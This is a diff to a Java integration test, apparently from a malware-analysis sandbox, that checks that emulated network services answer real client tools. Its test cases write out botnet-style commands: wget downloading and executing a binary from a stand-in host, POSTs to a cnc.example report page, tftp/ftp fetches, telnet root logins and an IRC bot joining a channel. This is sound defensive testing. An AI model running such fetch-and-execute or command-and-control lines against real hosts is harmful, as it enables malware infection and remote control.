@@ -20,8 +20,6 @@ import org.malassay.qemu.Cache;
 @Tag("guest")
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class RealClientsIT {
-  private static final Path BUSYBOX = Path.of("usr/bin/busybox");
-
   private InternetProgram program;
   private DebianTree clients;
   private Answers answers;
@@ -35,7 +33,13 @@ class RealClientsIT {
   }
 
   private NamespaceRun.Outcome run(String command) throws Exception {
-    List<String> words = clients.shell(BUSYBOX, "cd /tmp && rm -rf * && " + command);
+    List<String> words =
+        List.of(
+            "sh",
+            "-c",
+            "%s /usr/bin/busybox sh -c \"$1\"".formatted(clients.in()),
+            "clients",
+            "cd /tmp && rm -rf * && " + command);
     try (NamespaceRun run = NamespaceRun.start(program, answers, words)) {
       return run.await();
     }
@@ -49,7 +53,7 @@ class RealClientsIT {
         "busybox wget -qO - http://cnc.example/b.sh § 0 § A harmless script § http: GET http://cnc.example/b.sh: 200, 80 bytes (page)",
         "busybox wget -q http://203.0.113.5/a.arm && chmod +x a.arm && ./a.arm § 0 § A harmless program, given out by § http: GET http://203.0.113.5/a.arm: 200, ",
         "busybox wget -qO - http://[2001:db8::7]:8088/x § 0 § A harmless program § http: GET http://[2001:db8::7]:8088/x: 200, ",
-        "busybox wget -qO - --post-data=a=b http://cnc.example/report.php § 0 § '' § http: POST http://cnc.example/report.php: 200, 0",
+        "busybox wget -qO - --post-data=a=b http://cnc.example/report.php § 0 § '' § http: POST http://cnc.example/report.php: 200, 55 bytes",
         "busybox nslookup cnc.example § 0 § Address: 198.1 § dns: A cnc.example: 198.1",
         "busybox nslookup -type=mx cnc.example 8.8.8.8 § 0 § mail.cnc.example § dns: MX cnc.example: 10 mail.cnc.example.",
         "busybox nslookup 198.51.100.7 § 0 § host-198-51-100-7.example § dns: PTR 7.100.51.198.in-addr.arpa: host-198-51-100-7.example.",
@@ -73,6 +77,7 @@ class RealClientsIT {
         "tnftp -o - ftp://203.0.113.9/b.sh § 0 § A harmless script § ftp: RETR b.sh: 80 bytes",
         "tftp -m binary 203.0.113.9 -c get a.arm && cat a.arm § 0 § A harmless program § tftp: read a.arm: ",
         "(sleep 2; echo root; sleep 1; echo pw; sleep 1) | inetutils-telnet 203.0.113.9 § 0 § Login incorrect § telnet: login root pw: refused",
+        "chronyd -u root -Q -t 20 'server 203.0.113.9 iburst maxsamples 1' § 0 § System clock wrong by § ntp: time: the time",
         "(sleep 3; echo /join '#army'; sleep 1; echo /quit; sleep 1) | TERM=dumb IRCNICK=zombie ircII -d -q zombie 203.0.113.9 § 0 § Welcome to the Internet Relay Network zombie § irc: join #army: alone there",
       })
   void aClientGetsWhatItAsksFor(String command, int status, String printed, String told)
